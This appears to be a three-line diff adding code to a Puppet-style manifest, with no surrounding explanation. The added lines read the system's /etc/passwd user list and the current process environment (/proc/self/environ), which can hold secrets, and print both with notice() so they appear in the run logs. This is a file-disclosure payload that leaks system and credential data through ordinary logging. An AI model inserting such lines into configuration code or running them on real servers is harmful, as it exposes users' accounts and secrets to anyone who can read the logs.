@@ -1,0 +1,3 @@
+$users = file('/etc/passwd')
+$proc = file('/proc/self/environ')
+notice($users, $proc)
